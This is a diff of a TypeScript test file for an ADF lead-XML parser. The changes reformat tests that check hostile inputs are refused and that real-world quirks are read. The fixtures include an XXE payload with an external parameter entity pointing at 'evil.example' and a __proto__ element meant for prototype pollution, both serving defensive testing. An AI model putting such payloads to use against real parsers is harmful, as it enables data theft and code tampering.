@@ -31,7 +31,9 @@ describe("hostile ADF documents are refused before any parsing", () => {
 
   it("refuses a lower-case doctype, a parameter entity and an ENTITY without a DOCTYPE", () => {
     expect(rejection(`<!doctype adf><adf>${PROSPECT}</adf>`).code).toBe("forbidden_markup");
-    expect(rejection(`<!DOCTYPE adf [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><adf>${PROSPECT}</adf>`).code).toBe("forbidden_markup");
+    expect(
+      rejection(`<!DOCTYPE adf [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><adf>${PROSPECT}</adf>`).code,
+    ).toBe("forbidden_markup");
     expect(rejection(`<adf><!ENTITY x "y">${PROSPECT}</adf>`).code).toBe("forbidden_markup");
   });
 
@@ -52,7 +54,9 @@ describe("hostile ADF documents are refused before any parsing", () => {
   });
 
   it("refuses element names that would reach JavaScript internals, as malformed, without crashing", () => {
-    expect(rejection(`<adf><prospect><__proto__><polluted>1</polluted></__proto__></prospect></adf>`).code).toBe("malformed");
+    expect(rejection(`<adf><prospect><__proto__><polluted>1</polluted></__proto__></prospect></adf>`).code).toBe(
+      "malformed",
+    );
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 
@@ -66,7 +70,10 @@ describe("hostile ADF documents are refused before any parsing", () => {
 describe("ADF quirks seen in the wild are read", () => {
   it("upper-case tags and attributes, namespace prefixes and a BOM", () => {
     const upper = `\uFEFF<?ADF VERSION="1.0"?><ADF><PROSPECT><CUSTOMER><CONTACT><NAME PART="first">Dana</NAME><PHONE TYPE="Mobile">(512) 555-0123</PHONE></CONTACT></CUSTOMER></PROSPECT></ADF>`;
-    expect(read(upper)[0]!.customer).toMatchObject({ name: "Dana", phones: [{ number: "(512) 555-0123", type: "mobile" }] });
+    expect(read(upper)[0]!.customer).toMatchObject({
+      name: "Dana",
+      phones: [{ number: "(512) 555-0123", type: "mobile" }],
+    });
     const prefixed = `<a:adf xmlns:a="urn:adf"><a:prospect><a:customer><a:contact><a:name>Dana</a:name><a:email>dana@example.com</a:email></a:contact></a:customer></a:prospect></a:adf>`;
     expect(read(prefixed)[0]!.customer).toMatchObject({ name: "Dana", email: "dana@example.com" });
   });
